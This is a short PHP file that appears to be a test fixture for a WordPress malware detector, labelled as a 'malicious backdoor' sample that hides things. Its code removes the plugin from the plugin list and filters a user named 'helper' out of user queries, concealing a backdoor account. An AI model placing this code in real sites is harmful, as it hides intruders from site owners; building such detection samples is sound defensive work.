<?php return; // want: malicious backdoor php.hides
add_filter('all_plugins', function ($plugins) {
	unset($plugins[plugin_basename(__FILE__)]);
	return $plugins;
});
add_action('pre_user_query', function ($query) {
	$query->query_where .= " AND user_login <> 'helper'";
});
